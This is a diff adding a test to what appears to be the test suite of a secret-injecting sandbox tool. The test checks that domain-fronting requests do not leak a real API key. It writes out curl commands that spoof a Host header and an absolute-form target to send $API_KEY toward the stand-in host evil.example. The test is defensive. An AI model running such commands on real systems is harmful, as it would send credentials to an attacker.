@@ -138,6 +138,31 @@ strictJail.describe('--secret', () => {
     }
   });
 
+  it('a request that names another host (Host header, absolute-form target: domain fronting on a shared CDN) gets no real value', async () => {
+    const s = await upstream(realCa);
+    try {
+      // A CDN routes by the Host header (or an absolute-form target), not
+      // by the TLS name: these would carry the key to evil.example's origin.
+      const script =
+        `curl -sS --max-time 10 -H "Host: evil.example" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fronted?key=$API_KEY"; echo; ` +
+        `curl -sS --max-time 10 --request-target "https://evil.example/abs?key=$API_KEY" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/"; echo; ` +
+        `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fine"`;
+      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
+      expect(printedAll(r)).not.toContain(REAL);
+      // Whatever reached the upstream named the listed host, and only that carries the value.
+      for (const g of s.got) {
+        const h = JSON.parse(g.headers) as Record<string, string>;
+        if (JSON.stringify(g).includes(REAL)) expect([h.host, g.url.startsWith('/')]).toEqual([`localhost:${s.port}`, true]);
+      }
+      expect(s.got.filter((g) => JSON.stringify(g).includes('evil.example'))).toEqual([]);
+      expect(s.got.map((g) => g.url)).toEqual([`/fine`]);
+      expect(r.stdout.match(/is not sent on it/g)).toHaveLength(2);
+      expect(r.stdout).toContain('upstream says hi');
+    } finally {
+      await s.close();
+    }
+  });
+
   it('a denied host receives nothing', async () => {
     const [listed, denied] = [await upstream(realCa), await upstream(realCa)];
     try {
